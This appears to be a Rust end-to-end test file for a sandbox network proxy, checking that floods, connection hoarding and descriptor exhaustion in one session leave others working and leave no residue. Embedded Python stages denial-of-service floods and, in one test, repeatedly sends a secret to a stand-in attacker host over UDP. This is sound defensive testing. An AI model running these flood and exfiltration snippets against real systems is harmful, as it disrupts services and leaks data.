//! Sandboxes that ask for too much, and what is left when they are gone.

use super::{GOOD, Inside, RUNTIMES, World, becomes};
use k8e_e2e::internet::{ATTACKER, CDN};
use serde_json::json;
use std::time::{Duration, Instant};

/// Runs Python in the background until the sandbox is gone.
fn in_background(inside: &Inside<'_>, script: &str) {
    inside.sh(&format!(
        "cat > /tmp/background.py <<'EOF'\n{}\n{script}\nEOF\nsetsid python3 /tmp/background.py > /tmp/said 2>&1 &\nsleep 1",
        super::PRELUDE
    ));
}

/// What is allowed works for somebody else, and does not take long.
fn assert_quick(inside: &Inside<'_>) {
    for _ in 0..3 {
        let begun = Instant::now();
        inside.works();
        let took = begun.elapsed();
        assert!(took < Duration::from_secs(10), "{took:?}");
    }
}

#[test]
fn who_floods_does_not_stop_others() {
    let world = World::start(&[]);
    for runtime in RUNTIMES {
        let flood = world.session(runtime, &["--allowed-hosts", "good.example,*.good.example"]);
        in_background(
            &flood,
            &format!(
                "import threading\n\
                 def often(what):\n    \
                 while True:\n        \
                 try: what()\n        \
                 except OSError: time.sleep(0.01)\n\
                 held = []\n\
                 def hold():\n    \
                 s = socket.socket(); s.connect(('{CDN}', 443)); held.append(s)\n\
                 def denied(): socket.create_connection(('{ATTACKER}', 443), 1).close()\n\
                 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
                 def ask(): u.sendto(question(os.urandom(4).hex() + '.good.example'), (GATEWAY, 53))\n\
                 def packets(): u.sendto(SECRET * 100, ('{ATTACKER}', 443))\n\
                 def headers(): s = socket.create_connection(('{CDN}', 80), 1); s.sendall(b'GET / HTTP/1.1\\r\\nX: ' + b'x' * 60000); held.append(s)\n\
                 for what in hold, denied, ask, packets, headers: threading.Thread(target=often, args=(what,)).start()"
            ),
        );
        let other = world.session(runtime, &["--allowed-hosts", GOOD]);
        assert_quick(&other);
        other.assert_not_reached(ATTACKER);
        flood.session.destroy();
        assert_quick(&other);
        other.session.destroy();
    }
}

#[test]
fn who_holds_all_it_may_gets_it_back() {
    let world = World::start(&["--egress-connections-max", "16"]);
    world.everywhere(GOOD, |inside| {
        // Silent ones are not kept for ever, and those that are closed are given back at once.
        inside.python(&format!(
            "held = []\n\
             for n in range(60):\n    \
             s = socket.socket(); s.settimeout(1)\n    \
             try: s.connect(('{CDN}', 443)); held.append(s)\n    \
             except OSError: pass\n\
             for s in held: s.close()"
        ));
        assert_quick(inside);
    });
}

#[test]
fn who_asks_without_end_is_served_at_a_rate() {
    const SECONDS: u64 = 5;
    /// Of one session, in a second. A quarter of a second's are free.
    const REQUESTS_MAX: f64 = 2000.0;
    let world = World::start(&["--default-cpus", "2"]);
    let flood = world.session("native", &["--allowed-hosts", GOOD]);
    let other = world.session("native", &["--allowed-hosts", GOOD]);
    world.internet.forget();
    // Many requests in each packet, on some connections, and nobody looks at the answers.
    let ran = flood.python(&format!(
        "import threading\n\
         many = get('good.example', '/flood') * 200; end = time.monotonic() + {SECONDS}\n\
         def drain(s):\n    \
         try:\n        \
         while s.recv(1 << 20): pass\n    \
         except OSError: pass\n\
         def pour():\n    \
         while time.monotonic() < end:\n        \
         try:\n            \
         s = socket.create_connection(('{CDN}', 80), 5); threading.Thread(target=drain, args=(s,)).start()\n            \
         while time.monotonic() < end: s.sendall(many)\n        \
         except OSError: pass\n        \
         finally: s.close()\n\
         pourers = [threading.Thread(target=pour) for _ in range(4)]\n\
         for pourer in pourers: pourer.start()\n\
         for pourer in pourers: pourer.join()\n\
         print('took', time.monotonic() - end + {SECONDS})"
    ));
    let served = world.internet.log().requests().len() as f64;
    let out = ran.out();
    let took = out.trim().rsplit(' ').next().unwrap();
    let most = REQUESTS_MAX * (took.parse::<f64>().unwrap() + 1.0);
    assert!((100.0..most).contains(&served), "{served} of {most}");
    other.works();
    flood.session.destroy();
    other.session.destroy();
}

#[test]
fn who_takes_all_descriptors_leaves_some_to_others() {
    /// Fewer than one session may need for all its connections.
    const DESCRIPTORS: u32 = 400;
    let mut world = World::start(&[]);
    world.server.restart_with_descriptors(DESCRIPTORS);
    for runtime in RUNTIMES {
        let before = world.session(runtime, &["--allowed-hosts", GOOD]);
        let rules = format!("{GOOD},{CDN}:7777");
        let greedy = world.session(runtime, &["--allowed-hosts", &rules]);
        let idle = descriptors(world.server.pid());
        in_background(
            &greedy,
            &format!(
                "held = []\n\
                 while True:\n    \
                 s = socket.socket(); s.settimeout(5)\n    \
                 try: s.connect(('{CDN}', 7777)); s.sendall(b'x'); s.recv(1) and held.append(s)\n    \
                 except OSError: time.sleep(0.02)"
            ),
        );
        greedy.assert_denied(json!({ "reason": "too_many_connections", "port": 7777 }));
        let connections = world.internet.log().connections();
        let open = connections
            .iter()
            .filter(|one| one.open && one.local.port() == 7777);
        let held = open.count();
        assert!((8..150).contains(&held), "{held} connections");
        // Who was there already, and who comes now, while all of them are held.
        before.works();
        let after = world.session(runtime, &["--allowed-hosts", GOOD]);
        after.works();
        after.assert_not_reached(ATTACKER);
        let now = descriptors(world.server.pid());
        assert!(now >= idle + 2 * held, "{held} were not held meanwhile");
        for session in [&greedy, &before, &after] {
            session.session.destroy();
        }
    }
}

#[test]
fn the_network_of_the_host_is_left_alone() {
    let world = World::start(&[]);
    let host = |program: &str, args: &[&str]| {
        let output = world.internet.on_host(program, args);
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let state = || {
        [
            host("ip", &["-brief", "link"]),
            host("ip", &["-brief", "address"]),
            host("ip", &["route", "show", "table", "all"]),
            host("ip", &["rule"]),
            host("nft", &["list", "ruleset"]),
            host(
                "sh",
                &[
                    "-c",
                    "cat /proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv4/conf/*/route_localnet",
                ],
            ),
        ]
    };
    let before = state();
    let inside = RUNTIMES.map(|runtime| {
        let inside = world.session(runtime, &["--allowed-hosts", GOOD]);
        inside.works();
        inside
    });
    assert_eq!(state(), before);
    drop(inside);
}

#[test]
fn nothing_is_left_of_sessions_that_are_over() {
    const SESSIONS: usize = 12;
    let world = World::start(&[]);
    for runtime in RUNTIMES {
        let session = || {
            let inside = world.session(runtime, &["--allowed-hosts", GOOD]);
            inside.works();
            inside.sh("setsid curl -s http://good.example/drip >/dev/null 2>&1 &");
            inside.session.destroy();
        };
        session();
        let before = descriptors(world.server.pid());
        for _ in 0..SESSIONS {
            session();
        }
        let open = || {
            world
                .internet
                .log()
                .connections()
                .iter()
                .any(|one| one.open)
        };
        becomes("every connection is closed", || !open());
        // A socket would keep the namespace that it is in. Some may be open for something else.
        let some = before + SESSIONS / 2;
        becomes("descriptors are closed", || {
            descriptors(world.server.pid()) < some
        });
    }
}

/// How many the server and the processes of its launcher have open.
fn descriptors(pid: u32) -> usize {
    let children = |pid: u32| -> Vec<u32> {
        let text = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"));
        let text = text.unwrap_or_default();
        text.split_whitespace()
            .filter_map(|pid| pid.parse().ok())
            .collect()
    };
    let keepers = children(pid);
    let workers = keepers.iter().flat_map(|keeper| children(*keeper));
    let all: Vec<u32> = std::iter::once(pid)
        .chain(keepers.iter().copied())
        .chain(workers)
        .collect();
    let count = |pid: u32| std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, Iterator::count);
    all.into_iter().map(count).sum()
}
